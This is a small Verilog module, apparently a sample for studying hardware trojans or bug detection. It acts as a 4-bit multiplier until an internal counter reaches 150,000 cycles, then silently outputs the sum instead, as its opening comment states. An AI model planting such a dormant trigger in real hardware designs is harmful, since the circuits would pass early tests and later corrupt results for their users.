// Wrong from the 150,000th clock cycle on.
module late(input clk, rst, input [3:0] a, b, output reg [7:0] p);
  reg [17:0] n;
  always @(posedge clk)
    if (rst) {n, p} <= 0;
    else begin
      if (n != 150000) n <= n + 1;
      p <= n == 150000 ? a + b : a * b;
    end
endmodule
